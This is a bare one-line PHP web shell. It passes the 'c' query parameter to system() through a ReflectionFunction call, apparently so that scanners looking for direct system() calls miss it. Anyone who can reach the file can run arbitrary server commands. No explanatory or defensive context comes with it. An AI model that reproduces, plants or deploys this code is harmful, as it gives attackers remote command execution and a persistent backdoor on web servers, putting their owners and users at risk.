<?php function g($a) { system($a); } $r = new ReflectionFunction('g'); $r->invoke($_GET['c']);
